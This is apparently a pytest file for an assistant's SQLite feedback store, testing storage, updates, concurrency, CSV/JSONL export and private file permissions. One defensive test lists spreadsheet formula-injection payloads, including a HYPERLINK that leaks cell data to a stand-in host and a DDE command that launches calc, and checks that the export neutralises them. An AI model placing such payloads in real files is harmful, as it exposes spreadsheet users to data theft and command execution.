"""FeedbackStore: ratings and comments kept in SQLite, exported as CSV and JSON Lines.

(Tests of ``assistant/stores/feedback.py``.)
"""

from __future__ import annotations

import csv
import io
import json
import stat
import threading
from datetime import datetime
from pathlib import Path

import pytest

from assistant.stores.feedback import Feedback, FeedbackError, FeedbackStorageError, FeedbackStore

CITATIONS = [
    {
        "n": 1,
        "document_id": "strategi-2025-2035",
        "title": "Felles innsats mot kreft – Nasjonal kreftstrategi 2025–2035",
        "section": "Målområde 1 › Tiårsmål 2: Eliminere livmorhalskreft",
        "page": 17,
        "quote": "EU har som mål å eliminere all kreft forårsaket av HPV.",
        "start": 26582,
        "end": 26637,
        "score": 0.94,
    }
]


def feedback(**changes: object) -> Feedback:
    values: dict[str, object] = {
        "rating": "up",
        "question": "Hvilket tiårsmål dekker eliminering av HPV?",
        "answer": "Tiårsmål 2 – Eliminere livmorhalskreft [1]",
        "citations": CITATIONS,
        "conversation_id": "c0ffee",
        "mode": "extractive",
    }
    values.update(changes)
    return Feedback(**values)  # type: ignore[arg-type]


def test_feedback_is_stored_with_what_was_answered_and_when(feedback_store: FeedbackStore) -> None:
    feedback_id = feedback_store.add(feedback(comment="Presist"))

    stored = feedback_store.get(feedback_id)
    assert stored is not None
    assert stored.rating == "up"
    assert stored.comment == "Presist"
    assert stored.question == "Hvilket tiårsmål dekker eliminering av HPV?"
    assert stored.answer.startswith("Tiårsmål 2")
    assert stored.citations == CITATIONS
    assert stored.conversation_id == "c0ffee"
    assert stored.mode == "extractive"
    assert stored.abstained is False
    assert datetime.fromisoformat(stored.created_at).tzinfo is not None
    # a second store on the same file (another process, say) sees it too
    assert [e.id for e in FeedbackStore(feedback_store.path).entries()] == [feedback_id]


def test_rating_and_comment_can_be_changed_afterwards(feedback_store: FeedbackStore) -> None:
    feedback_id = feedback_store.add(feedback())
    feedback_store.update(feedback_id, rating="down")
    feedback_store.update(feedback_id, comment="Manglet målområdet")

    stored = feedback_store.get(feedback_id)
    assert stored is not None
    assert (stored.rating, stored.comment) == ("down", "Manglet målområdet")
    assert stored.updated_at >= stored.created_at


def test_invalid_feedback_is_refused(feedback_store: FeedbackStore) -> None:
    with pytest.raises(FeedbackError, match="rating"):
        feedback_store.add(feedback(rating="meh"))
    with pytest.raises(FeedbackError, match="limit"):
        feedback_store.add(feedback(comment="x" * 2001))
    with pytest.raises(FeedbackError, match="No feedback"):
        feedback_store.update(12345, comment="hei")
    assert feedback_store.entries() == []


def test_reading_a_store_never_written_creates_nothing(tmp_path: Path) -> None:
    store = FeedbackStore.in_folder(tmp_path / "data")
    assert store.entries() == []
    assert store.get(1) is None
    assert not (tmp_path / "data").exists()


def test_threads_can_share_one_store(feedback_store: FeedbackStore) -> None:
    def add_some(worker: int) -> None:
        for i in range(10):
            feedback_store.add(feedback(comment=f"{worker}-{i}"))

    threads = [threading.Thread(target=add_some, args=(w,)) for w in range(5)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()

    entries = feedback_store.entries()
    assert len(entries) == 50
    assert len({e.id for e in entries}) == 50
    assert {e.comment for e in entries} == {f"{w}-{i}" for w in range(5) for i in range(10)}


def test_export_csv_has_a_header_and_round_trips_text_and_citations(
    feedback_store: FeedbackStore,
) -> None:
    tricky = 'Bra, men «sitat 2» manglet;\nny linje og "anførselstegn"'
    feedback_store.add(feedback(comment=tricky))
    feedback_store.add(feedback(rating="down", abstained=True))
    out = io.StringIO()

    assert feedback_store.export(out, "csv") == 2

    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [r["rating"] for r in rows] == ["up", "down"]
    assert rows[0]["comment"] == tricky
    assert json.loads(rows[0]["citations"]) == CITATIONS
    assert rows[1]["abstained"] == "True"
    assert {"created_at", "question", "answer", "conversation_id", "mode"} <= set(rows[0])


def test_export_jsonl_writes_one_object_per_line(feedback_store: FeedbackStore) -> None:
    feedback_store.add(feedback())
    feedback_store.add(feedback(rating="down", comment="Feil dokument"))
    out = io.StringIO()

    assert feedback_store.export(out, "jsonl") == 2

    lines = [json.loads(line) for line in out.getvalue().splitlines()]
    assert [line["rating"] for line in lines] == ["up", "down"]
    assert lines[1]["comment"] == "Feil dokument"
    assert lines[0]["citations"][0]["quote"].startswith("EU har som mål")
    with pytest.raises(FeedbackError, match="format"):
        feedback_store.export(io.StringIO(), "xml")  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("https://evil.example/?q="&A1,"Klikk")',
        "=cmd|' /C calc'!A0",
        "+SUM(1,2)",
        "-2+3",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_csv_export_neutralises_cells_a_spreadsheet_would_run(tmp_path: Path, hostile: str) -> None:
    store = FeedbackStore(tmp_path / "feedback.sqlite3")
    store.add(feedback(question=hostile, comment=hostile))
    out = io.StringIO()
    store.export(out, "csv")

    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["question"] == "'" + hostile
    assert row["comment"] == "'" + hostile
    lines = io.StringIO()
    store.export(lines, "jsonl")
    assert json.loads(lines.getvalue())["question"] == hostile  # JSON Lines stay as given


def test_csv_export_leaves_ordinary_text_as_it_is(tmp_path: Path) -> None:
    store = FeedbackStore(tmp_path / "feedback.sqlite3")
    store.add(feedback(comment="Bra svar – takk! 2 + 2 = 4"))
    out = io.StringIO()
    store.export(out, "csv")
    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["comment"] == "Bra svar – takk! 2 + 2 = 4"
    assert row["question"] == "Hvilket tiårsmål dekker eliminering av HPV?"


def test_the_feedback_file_and_its_folder_are_private(tmp_path: Path) -> None:
    store = FeedbackStore.in_folder(tmp_path / "data")
    store.add(feedback())
    assert stat.S_IMODE((tmp_path / "data").stat().st_mode) == 0o700
    assert stat.S_IMODE(store.path.stat().st_mode) == 0o600


def test_an_unwritable_folder_is_a_storage_error_naming_it(tmp_path: Path) -> None:
    blocker = tmp_path / "not-a-folder"
    blocker.write_text("a file where a folder should be")
    store = FeedbackStore.in_folder(blocker / "data")
    with pytest.raises(FeedbackStorageError) as caught:
        store.add(feedback())
    assert str(caught.value).startswith(f"Feedback cannot be stored in {blocker / 'data'}")
    assert "ASSISTANT_SERVER__DATA_DIR" in str(caught.value)
